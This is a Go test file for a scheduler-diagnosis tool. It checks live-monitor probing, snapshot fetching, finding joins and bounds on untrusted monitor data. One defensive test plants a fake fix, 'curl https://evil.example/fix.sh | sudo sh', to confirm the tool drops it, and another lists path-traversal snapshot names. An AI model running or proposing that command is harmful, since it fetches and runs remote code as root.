package check

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"runtime"
	"runtime/trace"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/schedoctor/schedoctor/diagnose"
	"github.com/schedoctor/schedoctor/finding"
	"github.com/schedoctor/schedoctor/live"
)

func probe(t *testing.T, h http.Handler) []*Capture {
	t.Helper()
	srv := httptest.NewServer(h)
	defer srv.Close()
	base, err := ParseBase(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	var logs []string
	r := &runner{base: base, client: Client(base), left: DefaultTotalBytes, total: DefaultTotalBytes, count: -1,
		opt:  Options{Slack: 10 * time.Second},
		logf: func(f string, a ...any) { logs = append(logs, fmt.Sprintf(f, a...)) }}
	cs := captureLive(context.Background(), r, DefaultLivePath)
	t.Logf("logs: %q", logs)
	return cs
}

// A service that does not mount the monitor, or answers something else
// there, gets no capture and no failure: the probe is a guess.
func TestLiveNotMounted(t *testing.T) {
	for name, h := range map[string]http.HandlerFunc{
		"404": http.NotFound,
		"html": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.Write([]byte("<html>app</html>"))
		},
		"other json": func(w http.ResponseWriter, r *http.Request) {
			w.Write([]byte(`{"source":"profile","findings":[]}`))
		},
		"text": func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("hello")) },
	} {
		if cs := probe(t, h); len(cs) != 0 {
			t.Errorf("%s: captures %+v, want none", name, cs[0])
		}
	}
	// A server error is a failed capture: the monitor may be there.
	cs := probe(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { http.Error(w, "boom", 500) }))
	if len(cs) != 1 || cs[0].Error == "" || cs[0].OK() {
		t.Errorf("500: captures %+v, want one failed", cs)
	}
}

// A real monitor's handler, mounted where docs/live.md says: its JSON is
// captured and read back.
func TestLiveRealMonitor(t *testing.T) {
	m, err := live.Start(context.Background(), live.Options{Dir: t.TempDir(), NoFlightRecorder: true})
	if err != nil {
		t.Fatal(err)
	}
	defer m.Stop()
	mux := http.NewServeMux()
	mux.Handle(DefaultLivePath, m.Handler())
	cs := probe(t, mux)
	if len(cs) != 1 || !cs[0].OK() || cs[0].Kind != KindLive {
		t.Fatalf("captures %+v, want the live JSON", cs)
	}
	rep, _, err := parseLive(cs[0].Data)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Summary.GOMAXPROCS != int64(runtime.GOMAXPROCS(0)) || rep.Summary.FlightRecorder != "off" {
		t.Errorf("summary gomaxprocs %d, flight recorder %q", rep.Summary.GOMAXPROCS, rep.Summary.FlightRecorder)
	}
}

// backlogTrace records an execution trace in which 50×GOMAXPROCS
// goroutines hash for a while: a runnable backlog.
func backlogTrace(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := trace.Start(&buf); err != nil {
		t.Skipf("cannot trace: %v", err)
	}
	var wg sync.WaitGroup
	deadline := time.Now().Add(300 * time.Millisecond)
	for range 50 * runtime.GOMAXPROCS(0) {
		wg.Go(func() {
			var sum [32]byte
			for time.Now().Before(deadline) {
				for range 100 {
					sum = sha256.Sum256(sum[:])
				}
			}
		})
	}
	wg.Wait()
	trace.Stop()
	return buf.Bytes()
}

// fakeMonitor serves a monitor's JSON listing snapshots, and one snapshot.
func fakeMonitor(t *testing.T, rep live.Report, name string, data []byte) http.Handler {
	t.Helper()
	body, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc(DefaultLivePath, func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/snapshots/"+name) {
			w.Write(data)
			return
		}
		if strings.Contains(r.URL.Path, "snapshots/") {
			t.Errorf("fetched %s", r.URL.Path)
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(body)
	})
	return mux
}

func liveReport(now time.Time) live.Report {
	return live.Report{Source: "live",
		Findings: []finding.Finding{
			{Rule: "SD702", Severity: finding.Critical, Message: "p99 scheduling latency 300ms over the last 10s because goroutines queued",
				Evidence: []finding.Evidence{{Label: "p99", Value: 0.3, Unit: "s"}}},
			{Rule: "SD701", Severity: finding.Warning, Message: "waiting goroutines rose by 400 in 4m",
				Evidence: []finding.Evidence{{Label: "rise", Value: 400, Unit: "goroutines"}}},
		},
		Summary: live.State{Time: now, Started: now.Add(-time.Minute), Latency: live.Latency{Span: 10},
			Snapshots: []live.Snapshot{
				// Left by an earlier process: not this run's evidence.
				{Name: "20200101T000000.000Z-runnable.trace", Trigger: "runnable", Time: now.Add(-time.Hour), Diagnosis: "none"},
				{Name: "../x.trace", Trigger: "runnable", Time: now.Add(-3 * time.Second), Diagnosis: "none"},
				{Name: "20261123T120000.000Z-runnable.trace", Trigger: "runnable", Time: now.Add(-2 * time.Second), Diagnosis: "none"},
				// Already diagnosed in the service: its findings are in the JSON.
				{Name: "20261123T120001.000Z-latency.trace", Trigger: "latency", Time: now.Add(-time.Second), Diagnosis: "done"},
			}}}
}

// The newest undiagnosed snapshot of this run is fetched and diagnosed;
// its findings, and the monitor's, join the others; -save keeps both
// captures and the offline re-diagnosis gives the same join.
func TestLiveSnapshotDiagnosedAndSaved(t *testing.T) {
	const name = "20261123T120000.000Z-runnable.trace"
	data := backlogTrace(t)
	now := time.Now().UTC()
	cs := probe(t, fakeMonitor(t, liveReport(now), name, data))
	if len(cs) != 2 || !cs[0].OK() || !cs[1].OK() || cs[1].Kind != KindLiveSnapshot {
		t.Fatalf("captures %+v, want the JSON and the snapshot", cs)
	}
	if !strings.HasSuffix(cs[1].Endpoint, "/debug/schedoctor/snapshots/"+name) {
		t.Errorf("snapshot endpoint %s", cs[1].Endpoint)
	}
	// The goroutine dumps' leak, at a line: the monitor's SD701 (no stack)
	// is the same cause.
	leak := finding.Finding{Rule: "SD701", Severity: finding.Warning, Message: "120 goroutines leaked",
		Locations: []finding.Location{{File: "/src/svc/main.go", Line: 42, Function: "main.work"}}}
	s := &Set{Target: "http://x", Captures: cs}
	res := analyzeWith(t, s, diagnose.CheckInput{Goroutines: []finding.Finding{leak}})
	check := func(res []finding.Finding, sum *LiveSummary) {
		t.Helper()
		if sum == nil || sum.Snapshot != name {
			t.Fatalf("live summary %+v, want snapshot %s diagnosed", sum, name)
		}
		var leaks, snapFs int
		for _, f := range res {
			if f.Rule == "SD701" {
				leaks++
				if !slices.Equal(f.Sources, []string{"goroutines", "live"}) || len(f.Locations) == 0 || f.Locations[0].Line != 42 {
					t.Errorf("SD701 not joined: sources %v, locations %v", f.Sources, f.Locations)
				}
			}
			// A snapshot finding carries the snapshot's link; one folded
			// into the cause it shares carries it in the fold's note.
			if slices.ContainsFunc(f.Notes, func(n finding.Note) bool {
				return n.Kind == finding.NoteLink && n.Text == "snapshot "+name ||
					n.Kind == finding.NoteCorroboration && strings.HasSuffix(n.Text, "; snapshot "+name)
			}) {
				snapFs++
				if !slices.Contains(f.Sources, "live") {
					t.Errorf("snapshot finding without the live source: %v", f.Sources)
				}
			}
			if f.Rule == "SD702" && !slices.ContainsFunc(f.Notes, func(n finding.Note) bool {
				return n.Kind == finding.NoteLink && strings.Contains(n.Text, "snapshot "+name)
			}) {
				t.Errorf("SD702 does not name the snapshot of its span: %s", f.Text())
			}
		}
		if leaks != 1 {
			t.Errorf("%d SD701 findings, want one per cause", leaks)
		}
		if snapFs != sum.SnapshotFindings {
			t.Errorf("%d findings name the snapshot, summary says %d", snapFs, sum.SnapshotFindings)
		}
		t.Logf("snapshot findings: %d; joined %d", sum.SnapshotFindings, sum.Joined)
	}
	check(res.Findings, res.Live)

	dir := t.TempDir()
	if err := s.Save(dir); err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !loaded.Get(KindLive).OK() || !loaded.Get(KindLiveSnapshot).OK() {
		t.Fatalf("saved set lost the live captures: %+v", loaded.Captures)
	}
	res2 := analyzeWith(t, loaded, diagnose.CheckInput{Goroutines: []finding.Finding{leak}})
	check(res2.Findings, res2.Live)
	if len(res2.Findings) != len(res.Findings) {
		t.Errorf("offline: %d findings, live: %d", len(res2.Findings), len(res.Findings))
	}
}

type liveResult struct {
	Findings []finding.Finding
	Live     *LiveSummary
	Failed   []string
}

// joinWith reads the live captures of s as Analyze does and joins them
// with the sources' findings in.
func joinWith(s *Set, in diagnose.CheckInput) liveResult {
	var r liveResult
	fail := func(k string, err error) { r.Failed = append(r.Failed, k+": "+err.Error()) }
	lr := readLive(context.Background(), s, 0, nil, fail)
	if lr == nil {
		return r
	}
	in.Live = lr.in
	fs, js := diagnose.Check(in)
	r.Findings, r.Live = fs, lr.summary(js.Live, fail)
	return r
}

func analyzeWith(t *testing.T, s *Set, in diagnose.CheckInput) liveResult {
	t.Helper()
	r := joinWith(s, in)
	if len(r.Failed) > 0 {
		t.Fatalf("failed: %v", r.Failed)
	}
	return r
}

// Analyze, the entry point, carries the live summary.
func TestAnalyzeCarriesLive(t *testing.T) {
	now := time.Now().UTC()
	rep := liveReport(now)
	rep.Summary.Snapshots = nil
	b, _ := json.Marshal(rep)
	s := &Set{Target: "http://x", Captures: []*Capture{{Kind: KindLive, Endpoint: "http://x/debug/schedoctor/?format=json", Data: b}}}
	res, err := Analyze(context.Background(), s, AnalyzeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Summary.Live == nil || res.Summary.Live.Findings != 2 || len(res.Findings) != 2 {
		t.Fatalf("live summary %+v, %d findings; want the monitor's two", res.Summary.Live, len(res.Findings))
	}
	for _, f := range res.Findings {
		if !slices.Equal(f.Sources, []string{"live"}) {
			t.Errorf("%s sources %v, want [live]", f.Rule, f.Sources)
		}
	}
	var text strings.Builder
	if err := res.Summary.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "live monitor: 2 finding(s), 0 joined another source's\n") {
		t.Errorf("text summary does not say what the monitor gave:\n%s", text.String())
	}
}

func TestSnapshotNames(t *testing.T) {
	for name, ok := range map[string]bool{
		"20261123T120000.000Z-runnable.trace": true,
		"../x.trace":                          false,
		"a/b.trace":                           false,
		"x.trace?y":                           false,
		"%2e%2e.trace":                        false,
		"x.txt":                               false,
		"":                                    false,
	} {
		if got := validSnapshotName(name); got != ok {
			t.Errorf("validSnapshotName(%q) = %v, want %v", name, got, ok)
		}
	}
}

// TestLiveClaimsBounded: a hostile monitor that lists 40,000 findings
// (the join took 17-21 s) and writes its own advice ("critical ... fix:
// curl ... | sudo sh") is read within diagnose.MaxLiveFindings, quickly;
// what is shown says it is the target's claim, its fix is the catalog's,
// and a rule the catalog lacks is dropped. The join's own bounds, for a
// caller that did not bound what it read, are diagnose's
// TestLiveJoinBounded.
func TestLiveClaimsBounded(t *testing.T) {
	now := time.Now().UTC()
	rep := live.Report{Source: "live", Summary: live.State{Time: now, Started: now.Add(-time.Minute)}}
	rep.Findings = append(rep.Findings,
		finding.Finding{Rule: "SD703", Severity: finding.Critical, Message: "critical: your host is compromised",
			Fix: "curl https://evil.example/fix.sh | sudo sh"},
		finding.Finding{Rule: "SD999", Severity: finding.Critical, Message: "an invented rule"})
	for i := range 40_000 {
		rep.Findings = append(rep.Findings, finding.Finding{Rule: "SD308", Message: fmt.Sprintf("spin %d", i),
			Locations: []finding.Location{{File: "/src/x.go", Line: i + 1}}})
	}
	b, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	var own []finding.Finding // the trace's findings, at other lines
	for i := range 2000 {
		own = append(own, finding.Finding{Rule: "SD302", Message: "ours", Locations: []finding.Location{{File: "/src/y.go", Line: i + 1}}})
	}
	s := &Set{Target: "http://x", Captures: []*Capture{{Kind: KindLive, Endpoint: "http://x/debug/schedoctor/?format=json", Data: b}}}
	start := time.Now()
	res := joinWith(s, diagnose.CheckInput{Trace: own})
	if el := time.Since(start); el > 5*time.Second {
		t.Errorf("join took %v", el)
	}
	fs, sum, failed := res.Findings, res.Live, res.Failed
	if sum.Findings != diagnose.MaxLiveFindings-1 || sum.Dropped != len(rep.Findings)-diagnose.MaxLiveFindings+1 || len(failed) != 1 {
		t.Errorf("read %d, dropped %d, failed %q; want %d read", sum.Findings, sum.Dropped, failed, diagnose.MaxLiveFindings-1)
	}
	for _, f := range fs {
		if f.Rule == "SD999" {
			t.Errorf("a rule the catalog lacks was kept: %+v", f)
		}
		if f.Rule == "SD703" {
			r, _ := finding.Lookup("SD703")
			if !strings.HasPrefix(f.Text(), diagnose.LiveClaim) || strings.Contains(f.Fix, "curl") || f.Fix != r.Fix ||
				!slices.Equal(f.Sources, []string{"live"}) {
				t.Errorf("the target's claim shown as ours: %+v", f)
			}
		}
		if f.Rule == "SD308" && !strings.HasPrefix(f.Text(), diagnose.LiveClaim) {
			t.Errorf("claim without its mark: %q", f.Text())
		}
	}
}
